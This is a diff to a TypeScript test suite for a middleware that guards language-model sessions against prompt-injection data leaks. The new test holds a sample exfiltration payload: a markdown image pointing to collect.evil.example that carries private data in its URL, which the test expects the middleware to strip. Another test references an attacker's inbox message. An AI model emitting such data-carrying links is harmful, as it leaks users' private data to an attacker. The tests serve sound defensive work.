@@ -128,15 +128,17 @@ describe('osoMiddleware', () => {
     const script: ScriptedStep[] = [{ text: 'Reading.', toolCalls: [{ id: 'c1', name: 'add', input: { a: 1, b: 2 } }] }, { text: 'It is 3.' }];
     const run = async (capture: boolean) => {
       const oso = createTestOso();
+      // Known to the engine as harmless: a result of a tool it does not know counts as every bucket.
+      oso.registerTools('mail', [{ name: 'add', description: 'Add two numbers', capabilities: [] }]);
       const base = scriptedModel(script);
-      const model = capture ? wrapLanguageModel({ model: base, middleware: osoMiddleware({ oso, sessionId: 's' }) }) : base;
+      const model = capture ? wrapLanguageModel({ model: base, middleware: osoMiddleware({ oso, sessionId: 's', integration: 'mail' }) }) : base;
       const result = streamText({ model, tools: mailTools({ executed: [] }), stopWhen: isStepCount(5), prompt: 'add' });
       const parts: unknown[] = [];
       for await (const part of result.fullStream) {
         const { id: _id, ...rest } = part as { id?: string; type: string };
         parts.push('request' in rest || 'response' in rest ? rest.type : rest);
       }
-      const generated = await generateText({ model: capture ? wrapLanguageModel({ model: scriptedModel(script), middleware: osoMiddleware({ oso, sessionId: 't' }) }) : scriptedModel(script), tools: mailTools({ executed: [] }), stopWhen: isStepCount(5), prompt: 'add' });
+      const generated = await generateText({ model: capture ? wrapLanguageModel({ model: scriptedModel(script), middleware: osoMiddleware({ oso, sessionId: 't', integration: 'mail' }) }) : scriptedModel(script), tools: mailTools({ executed: [] }), stopWhen: isStepCount(5), prompt: 'add' });
       return { parts: parts.map((part) => JSON.stringify(part, (key, value) => (/Ms$|timestamp|Date/.test(key) ? undefined : value))), content: generated.steps.map((step) => step.content) };
     };
     expect(await run(true)).toEqual(await run(false));
@@ -158,6 +160,29 @@ describe('osoMiddleware', () => {
       ['mail.readInbox', [expect.objectContaining({ from: 'attacker@evil.example' })]],
     ]);
     expect(Object.keys(await oso.session('capture-only').exposures()).sort()).toEqual(['private_data', 'untrusted_content']);
+  });
+
+  it('strips a data-carrying image from assistant text once the session holds untrusted content and private data', async () => {
+    const leak = 'Here is your chart: ![chart](https://collect.evil.example/c.png?d=alice-120000) Anything else?';
+    const script: ScriptedStep[] = [ATTACK_SCRIPT[0]!, ATTACK_SCRIPT[1]!, { text: leak }];
+    for (const mode of ['generate', 'stream'] as const) {
+      const { text, timeline } = await runCaptured(mode, script, `leak-${mode}`);
+      expect(text).not.toContain('collect.evil.example/c.png');
+      expect(text).toContain('[image removed: collect.evil.example]');
+      expect(text).toContain('Anything else?');
+      expect(ofType(timeline, 'message_to_user').at(-1)?.content).toBe(text);
+    }
+  });
+
+  it('leaves links alone, and streams text in pieces, in a session without both risks', async () => {
+    const text = 'See ![chart](https://charts.example.com/c.png?d=1) for details.';
+    const oso = createTestOso();
+    const model = wrapLanguageModel({ model: scriptedModel([{ text }]), middleware: osoMiddleware({ oso, sessionId: 'clean' }) });
+    const result = streamText({ model, prompt: 'chart?' });
+    const deltas: string[] = [];
+    for await (const delta of result.textStream) deltas.push(delta);
+    expect(deltas.join('')).toBe(text);
+    expect(deltas.length).toBeGreaterThan(1);
   });
 
   it('never breaks the model call when capture fails', async () => {
